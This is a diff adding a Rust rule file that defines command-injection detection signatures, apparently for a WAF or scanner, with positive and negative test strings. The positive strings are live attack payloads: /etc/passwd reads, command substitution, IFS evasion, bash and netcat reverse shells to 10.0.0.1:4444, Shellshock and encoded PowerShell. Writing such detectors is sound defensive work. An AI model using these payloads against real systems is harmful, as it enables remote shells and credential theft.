@@ -1,0 +1,22 @@
+//! Command injection.
+
+super::rules! { TABLE ["rce", "CWE-78", "crs-932"];
+    COMMAND "rce-001" "command after a separator" Critical 1:
+        "127.0.0.1; cat /etc/passwd", "x%257C%2520whoami",
+        not "fish; cat food & dog toys | more";
+    SUBSTITUTION "rce-002" "command substitution" Critical 1:
+        "$(id)", "x%2560id%2560",
+        not "$(document).ready and `ls -la` in Markdown";
+    EVASION "rce-003" "shell evasion" Critical 1:
+        "cat${IFS}/etc/passwd", ";c%2527a%2527t%2520/etc/passwd",
+        not "$IF you can";
+    REVERSE "rce-004" "reverse shell" Critical 1:
+        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "nc%2520-e%2520/bin/sh%252010.0.0.1%25204444",
+        not "bash is a shell";
+    SHELLSHOCK "rce-005" "Shellshock" Critical 1:
+        "() { :;}; echo x", "()%2520%257B%2520:;%257D;%2520/bin/id",
+        not "f() { return 1; }";
+    WINDOWS "rce-006" "Windows command" Critical 1:
+        "cmd.exe /c dir", "powershell%2520-enc%2520SQBFAFgA",
+        not "open cmd and type help";
+}
